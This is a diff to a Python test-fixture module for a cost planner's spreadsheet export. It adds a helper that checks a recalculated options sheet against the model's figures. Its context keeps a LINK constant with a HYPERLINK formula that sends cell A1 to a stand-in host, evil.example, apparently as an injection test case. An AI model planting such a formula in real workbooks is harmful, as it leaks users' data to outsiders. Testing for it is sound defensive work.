@@ -1,6 +1,13 @@
 """Scenarios the workbook tests price and recalculate (tests/test_workbook_formulas.py):
 small enough to check by hand, each exercising formulas the bundled scenarios do not."""
 
+from typing import TYPE_CHECKING
+
+if TYPE_CHECKING:
+    from openpyxl.workbook.workbook import Workbook
+
+    from planner.cost.results import TcoReport
+
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 HAND = {
     "name": "hand",
@@ -104,3 +111,24 @@ def pooling() -> dict[str, object]:
     assert isinstance(clouds, list)
     pooled = {**clouds[1], "packing": "pool", "provisioning_s": 300, "scale_down_s": 600}
     return {**MIXED, "name": "pooled", "cloud": [clouds[0], pooled]}
+
+
+def options_sheet_mismatches(book: "Workbook", report: "TcoReport") -> list[str]:
+    """Where the recalculated "Options (all horizons)" sheet differs from the model's figures
+    (every horizon, option and column; a cent, or 1e-9 relative, of tolerance)."""
+    from planner.report import build_report
+
+    table = build_report([(report.scenario, report)], 0, "en").options
+    sheet = book["Options (all horizons)"]
+    out = []
+    for r, row in enumerate(table.rows, start=2):
+        for k, (value, column) in enumerate(zip(row, table.columns, strict=True), start=1):
+            shown = sheet.cell(r, k).value
+            if not isinstance(value, int | float) or isinstance(value, bool):
+                continue
+            close = isinstance(shown, int | float) and abs(shown - value) <= max(
+                0.005, 1e-9 * abs(value)
+            )
+            if not close:
+                out.append(f"{row[1]}y {row[2]} {column.key}: {shown!r} != {value!r}")
+    return out
